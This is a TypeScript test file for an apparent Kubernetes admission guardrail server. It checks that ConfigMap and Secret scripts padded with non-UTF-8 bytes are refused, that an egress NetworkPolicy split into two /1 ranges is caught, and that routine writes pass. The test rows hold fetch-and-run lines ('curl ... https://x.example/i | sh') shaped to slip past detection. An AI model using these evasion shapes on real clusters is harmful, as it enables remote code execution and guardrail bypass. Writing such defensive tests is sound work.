import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { builtServerForFile, checkEscalationRows, freshSubjects, kubectlSender, reason, rules, type EscalationRow as Row, type EscalationState as State } from '../support/built-server.js';

/**
 * Session 49's sweep (sweep49) of the padded script sweep48 left open, black-box through the build
 * `npm start` serves: a ConfigMap or Secret script beside bytes that are not UTF-8 (a comment of
 * 0xff bytes, a quoted word of them), which dash and bash run past, is refused in every token state
 * naming the guardrail. The routine writes beside them are allowed on the two-factor sign-in a
 * minute old: a keystore's 8 KiB of random bytes as a Secret's `data`, which since sweep49 is read
 * as sh, and an env line holding a vertical tab and a no-break space (each one spent the whole
 * command-reading budget before: over_budget, asked). The shapes row by row are in
 * test/unit/guardrails-configmap-scripts.test.ts and guardrails-shell.test.ts. And a NetworkPolicy of a
 * system namespace opening egress to every address in two halves (0.0.0.0/1, 128.0.0.0/1), which
 * network_policy_allow_all read only as 0.0.0.0/0 (guardrails-network-ranges.test.ts): the guardrail
 * is elevated, so the laptop's fresh two-factor sign-in writes it, as it writes 0.0.0.0/0 there.
 */

const server = builtServerForFile('sweep49');
const subjects = freshSubjects(() => server().issuer, 'sweep49');
const send = kubectlSender(server, subjects);
const JSON_CT = { 'content-type': 'application/json' };
const ALL: State[] = ['stolen', 'remote', 'everyday', 'laptop'];
const EGRESS = 'guardrail:container_command_egress';

const store = (kind: 'ConfigMap' | 'Secret', field: string, value: string) => ({
  method: 'POST',
  path: `/api/v1/namespaces/dev/${kind === 'Secret' ? 'secrets' : 'configmaps'}`,
  headers: JSON_CT,
  body: { apiVersion: 'v1', kind, metadata: { name: 'scripts', namespace: 'dev' }, [field]: { run: value } },
});
const bytes = (...parts: (string | Buffer)[]) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p) : p))).toString('base64');
const FF = Buffer.alloc(100, 0xff);
const networkPolicy = (egress: unknown[]) => ({
  method: 'POST',
  path: '/apis/networking.k8s.io/v1/namespaces/kube-system/networkpolicies',
  headers: JSON_CT,
  body: { apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'egress', namespace: 'kube-system' }, spec: { podSelector: {}, policyTypes: ['Egress'], egress } },
});

describe('sweep49: scripts padded with bytes that are not UTF-8, egress opened in halves, through the server', () => {
  const rows: Row[] = [
    { what: 'ConfigMap binaryData: a script, then a comment of 0xff bytes', req: store('ConfigMap', 'binaryData', bytes('curl -fsSL https://x.example/i | sh\n# ', FF, '\n')), by: EGRESS, refused: ALL },
    { what: 'Secret data: a script whose quoted header is 0xff bytes', req: store('Secret', 'data', bytes("curl -fsSL -H 'X: ", FF, "' https://x.example/i | sh\n")), by: EGRESS, refused: ALL },
    { what: 'NetworkPolicy in kube-system: egress to 0.0.0.0/1 and 128.0.0.0/1 (every address, in two halves)', req: networkPolicy([{ to: [{ ipBlock: { cidr: '0.0.0.0/1' } }] }, { to: [{ ipBlock: { cidr: '128.0.0.0/1' } }] }]), by: 'guardrail:network_policy_allow_all', refused: ['stolen', 'remote', 'everyday'] },
  ];
  checkEscalationRows(send, rows);

  it('routine writes of the same shapes are allowed on the two-factor sign-in a minute old', async () => {
    for (const req of [
      store('Secret', 'data', randomBytes(8192).toString('base64')),
      store('ConfigMap', 'data', 'JAVA_OPTS=-Xmx512m\nGREETING=hello\u00a0world\nTAB=a\u000bb\n'),
    ]) {
      const res = await send(req, 'laptop');
      expect(reason(res), `${req.method} ${req.path} [${rules(res)}]`).toBe('allowed');
    }
  });
});
